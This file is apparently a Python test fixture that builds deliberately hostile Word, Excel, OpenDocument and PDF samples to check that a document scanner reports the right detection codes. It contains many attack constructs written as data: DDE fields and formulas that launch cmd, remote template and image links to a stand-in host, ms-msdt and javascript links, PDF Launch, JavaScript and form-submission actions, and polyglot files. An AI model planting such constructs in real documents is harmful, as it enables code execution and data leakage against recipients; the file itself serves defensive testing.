"""Tricks inside documents: Word, Excel, OpenDocument, PDF; see `hostile.py`."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator
from typing import TypeAlias

import pikepdf

from tests.office.files.honest import (
    WORD_MAIN,
    ods_members,
    odt_members,
    pack,
    pdf,
    relation,
    relations,
    word_members,
    xlsx,
)

# Name of the file, content, trick, the codes of which one must be told.
Row: TypeAlias = tuple[str, bytes, str, str]

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
PROGRAM = b"MZ\x90\0" + b"\0" * 60 + b"This program cannot be run in DOS mode."
PAGE = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def word_tricks() -> Iterator[Row]:
    plain = word_members()
    types = plain["[Content_Types].xml"]
    macro = types.replace(WORD_MAIN.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml")
    yield "a.docx", pack(plain | {"[Content_Types].xml": macro}), "macro document called docx", "7411"
    for at in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "custom/vbaProject.bin"):
        yield "a.docx", pack(plain | {at: OLE}), "macros", "7411"
    rels = "word/_rels/document.xml.rels"
    for kind, target, outside, codes in (
        ("attachedTemplate", "http://198.51.100.7/x.dotm", True, "7414"),
        ("attachedTemplate", "file://198.51.100.7/x.dotm", True, "7414"),
        ("oleObject", "embeddings/oleObject1.bin", False, "7413"),
        ("oleObject", "http://198.51.100.7/x", True, "7413"),
        ("image", "\\\\198.51.100.7\\share\\x.png", True, "7414"),
        ("image", "http://198.51.100.7/x.png", True, "7414"),
        ("hyperlink", "file:///c:/windows/system32/calc.exe", True, "7414"),
        ("hyperlink", "javascript:alert(1)", True, "7414"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic", True, "7414"),
        ("hyperlink", "\\\\198.51.100.7\\share", True, "7414"),
        ("aFChunk", "chunk.html", False, "7413"),
        ("subDocument", "other.docx", False, "7413"),
        ("frame", "http://198.51.100.7/f.htm", True, "7414"),
        ("control", "activeX/activeX1.xml", False, "7413"),
        ("vbaProject", "x.bin", False, "7411"),
        ("styles", "http://198.51.100.7/styles.xml", False, "7414"),
    ):
        evil = relations(relation(kind, target, outside=outside))
        yield "a.docx", pack(plain | {rels: evil}), f"{kind} {target}", codes
        yield "a.docx", pack(plain | {"word/_rels/footnotes.xml.rels": evil}), f"{kind} in footnotes", codes
    for name in ("embeddings/oleObject1.bin", "activeX/activeX1.bin", "embeddings/a.doc"):
        yield "a.docx", pack(plain | {"word/" + name: OLE}), name, "7413"
    for body in (
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>',
        "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E cmd x</w:instrText></w:r></w:p>",
        '<w:fldSimple w:instr="DDE cmd x"/>',
        '<w:fldSimple w:instr="INCLUDETEXT &quot;http://198.51.100.7/a&quot;"/>',
        '<w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\\\\\198.51.100.7\\\\a&quot;"/>',
        '<w:fldSimple w:instr="QUOTE 68 68 69 65"/>',
        '<w:fldSimple w:instr="MACROBUTTON evil press"/>',
        '<w:p><w:r><x:instrText xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "DDE a b</x:instrText></w:r></w:p>",
    ):
        yield "a.docx", pack(word_members(body)), body[:60], "7415"
    yield "a.docx", pack(word_members('<o:OLEObject xmlns:o="urn:o" Type="Embed"/>')), "object", "7413"
    yield "a.docx", pack(plain | {"word/media/a.svg": DRAWING}), "drawing inside", "7413 7421"
    yield (
        "a.docx",
        pack(plain | {"word/drawings/a.vml": b"<xml><script>1</script></xml>"}),
        "script in VML",
        "7421",
    )
    yield "a.docx", pack(plain | {"customUI/customUI.xml": b"<a/>", "_rels/.rels": relations(
        relation("officeDocument", "word/document.xml"),
        '<Relationship Id="r9" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility" '
        'Target="customUI/customUI.xml"/>')}), "ribbon", "7413"  # fmt: skip


def excel_tricks() -> Iterator[Row]:
    with zipfile.ZipFile(io.BytesIO(xlsx())) as archive:
        plain = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    for formula in (
        "cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://198.51.100.7/&quot;&amp;A1)",
        "HYPERLINK(&quot;http://x&quot;)", "_xlfn.WEBSERVICE(A1)", "CALL(&quot;a&quot;)",
        "REGISTER.ID(&quot;a&quot;)", "RTD(&quot;a&quot;,,1)",
        "EXEC(&quot;calc&quot;)", "MSEXCEL|'\\..\\..\\cmd'!''",
        "IMAGE(&quot;http://x&quot;)", "webservice (A1)",
    ):  # fmt: skip
        changed = plain[sheet].replace(b"<f>ROUND(B2/C2*100,2)</f>", f"<f>{formula}</f>".encode())
        assert changed != plain[sheet]
        yield "a.xlsx", pack(plain | {sheet: changed}), formula, "7415"
    names = plain["xl/workbook.xml"].replace(
        b"</definedName>", b"</definedName><definedName name=\"a\">cmd|'x'!A</definedName>"
    )
    yield "a.xlsx", pack(plain | {"xl/workbook.xml": names}), "name that starts a program", "7415"
    yield "a.xlsx", pack(plain | {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macro sheet", "7411"
    yield "a.xlsx", pack(plain | {"xl/vbaProject.bin": OLE}), "macros", "7411"
    for kind, codes in (("externalLink", "7414"), ("connections", "7414"), ("queryTable", "7414"),
                        ("ctrlProp", "7413"), ("oleObject", "7413"), ("xlMacrosheet", "7411")):  # fmt: skip
        evil = relations(relation(kind, "x.xml"))
        yield "a.xlsx", pack(plain | {"xl/_rels/extra.xml.rels": evil}), kind, codes
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "a.xlsx", pack(plain | {"xl/externalLinks/externalLink1.xml": link}), "DDE link", "7415"
    yield (
        "a.xlsx",
        pack(plain | {"xl/printerSettings/printerSettings1.bin": OLE}),
        "object as settings",
        "7413",
    )
    yield (
        "a.xlsx",
        pack(plain | {"xl/embeddings/a.xlsx": pack(plain | {"xl/vbaProject.bin": OLE})}),
        "macros within",
        "7411",
    )
    yield (
        "a.xlsx",
        pack(plain | {"xl/embeddings/a.xlsx": pack(plain | {"xl/embeddings/b.xlsx": xlsx()})}),
        "third level",
        "7413",
    )


def open_document_tricks() -> Iterator[Row]:
    for member in ("Basic/Standard/Module1.xml", "Scripts/python/a.py", "Dialogs/a.xml"):
        yield "a.odt", pack(odt_members() | {member: b"<a/>"}, stored=("mimetype",)), member, "7411"
    for inside, codes in (
        ('<script:event-listener script:language="ooo:script"/>', "7411"),
        ('<text:dde-connection-decl office:dde-application="cmd"/>', "7415"),
        ('<office:dde-source office:dde-application="cmd"/>', "7415"),
        ('<text:section-source xlink:href="http://198.51.100.7/a"/>', "7414"),
        ('<text:p><text:a xlink:href="file:///c:/x.exe">x</text:a></text:p>', "7414"),
        ('<text:p><text:a xlink:href="vnd.sun.star.script:x">x</text:a></text:p>', "7414"),
        ('<draw:image xmlns:draw="urn:d" xlink:href="http://198.51.100.7/a.png"/>', "7414"),
        ('<draw:image xmlns:draw="urn:d" xlink:href="../../etc/passwd"/>', "7414"),
        ('<draw:object-ole xmlns:draw="urn:d" xlink:href="./Object 1"/>', "7413"),
        ('<draw:floating-frame xmlns:draw="urn:d"/>', "7414"),
        ('<draw:plugin xmlns:draw="urn:d"/>', "7414"),
        ("<text:execute-macro/>", "7414"),
    ):
        yield "a.odt", pack(odt_members(inside), stored=("mimetype",)), inside, codes
    locked = b'<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>'
    yield "a.odt", pack(odt_members() | {"META-INF/manifest.xml": locked}), "password", "7409"
    yield "a.odt", pack(odt_members() | {"Object 1": OLE}), "object", "7413"
    for formula in (
        "of:=WEBSERVICE(&quot;http://x&quot;)",
        "of:=DDE(&quot;cmd&quot;;&quot;a&quot;)",
        "cmd|'/c'!A0",
    ):
        yield "a.ods", pack(ods_members(f'table:formula="{formula}"')), formula, "7415"
    mime = odt_members() | {"mimetype": b"application/vnd.oasis.opendocument.graphics"}
    yield "a.odt", pack(mime, stored=("mimetype",)), "drawing as text", "7403"
    late = dict(reversed(odt_members().items()))
    yield "a.odt", pack(late), "kind told last", "7403"


def pdf_tricks() -> Iterator[Row]:
    name, words = pikepdf.Name, pikepdf.Dictionary

    def setting(where: str, value: Callable[[pikepdf.Pdf], object]) -> bytes:
        def change(document: pikepdf.Pdf) -> None:
            target = document.pages[0].obj if where.startswith("page") else document.Root
            target["/" + where.partition(".")[2]] = document.make_indirect(value(document))

        return pdf(change=change)

    def script() -> pikepdf.Dictionary:
        return words(S=name.JavaScript, JS="app.alert(1)")

    actions: dict[str, Callable[[], pikepdf.Dictionary]] = {
        "script": script,
        "launch": lambda: words(S=name.Launch, F="cmd.exe"),
        "send a form": lambda: words(S=name.SubmitForm, F="http://198.51.100.7/"),
        "import": lambda: words(S=name.ImportData, F="a"),
        "another file": lambda: words(S=name.GoToR, F="\\\\198.51.100.7\\a"),
        "embedded": lambda: words(S=name.GoToE, F="a"),
        "film": lambda: words(S=name.Movie),
        "rendition": lambda: words(S=name.Rendition),
        "link to a file": lambda: words(S=name.URI, URI="file:///c:/x.exe"),
        "link that runs": lambda: words(S=name.URI, URI="javascript:a()"),
    }
    for trick, action in actions.items():
        codes = "7414" if "link" in trick else "7412 7413"
        for where in ("root.OpenAction", "page.Extra"):
            yield "a.pdf", setting(where, lambda _, make=action: make()), f"{trick} at {where}", codes
        deep = setting(
            "root.Deep", lambda _, make=action: pikepdf.Array([words(A=words(Next=pikepdf.Array([make()])))])
        )
        yield "a.pdf", deep, f"{trick} deep inside", codes
    names = setting("root.Names", lambda _: words(JavaScript=words(Names=pikepdf.Array(["a", script()]))))
    yield "a.pdf", names, "names", "7412"
    yield "a.pdf", setting("page.AA", lambda _: words(O=script())), "script when a page opens", "7412"
    yield "a.pdf", setting("root.AcroForm", lambda d: words(XFA=d.make_stream(b"<xdp/>"))), "XFA", "7412"

    def attach(document: pikepdf.Pdf) -> None:
        document.attachments["a.exe"] = PROGRAM

    yield "a.pdf", pdf(change=attach), "file inside", "7413"

    def pinned(form: str) -> pikepdf.Array:
        return pikepdf.Array([words(Type=name.Annot, Subtype=pikepdf.Name("/" + form), Rect=[0, 0, 1, 1])])

    for form in ("RichMedia", "3D", "Movie", "Sound", "Screen"):
        yield "a.pdf", setting("page.Annots", lambda _, f=form: pinned(f)), form, "7412"
    yield "a.pdf", setting("page.Annots", lambda _: pinned("FileAttachment")), "pinned file", "7413"
    for password in ("", "mật khẩu"):
        out = io.BytesIO()
        pikepdf.open(io.BytesIO(pdf())).save(out, encryption=pikepdf.Encryption(owner="x", user=password))
        yield "a.pdf", out.getvalue(), "password", "7409"
    good = pdf()
    yield (
        "a.pdf",
        setting("root.OpenAction", lambda _: script()).replace(b"/JavaScript", b"/J#61vaScript"),
        "name in disguise",
        "7412 7408",
    )
    yield "a.pdf", b"GIF89a" + good, "something before", "7403 7404 7421"
    yield "a.pdf", b"\n" * 500 + good, "lines before", "7403 7404 7421 7420"
    yield "a.pdf", good + PAGE, "page behind", "7407"
    yield "a.pdf", good + pack({"a": b"b"}), "archive behind", "7407"
    hidden = good.replace(b"%%EOF", b"%" + pack({"a": b"b"}) + b"\n%%EOF")
    yield "a.pdf", hidden, "archive in a comment", "7407"
    leftover = setting("root.OpenAction", lambda _: script())
    revised = leftover.replace(b"/OpenAction", b"/OpenIction")
    yield "a.pdf", revised, "script that nothing starts", "7412"
    yield "a.pdf", good[: len(good) // 2], "half", "7408"
    yield "a.pdf", good[: len(good) // 2] + b"%%EOF", "half with an end", "7408"
    yield "a.pdf", b"%PDF-1.7\n%%EOF", "no content", "7408"
    yield "a.pdf", good.replace(b"startxref", b"startxxxx"), "no table", "7408"
    empty = io.BytesIO()
    pikepdf.new().save(empty)
    yield "a.pdf", empty.getvalue(), "no page", "7408"
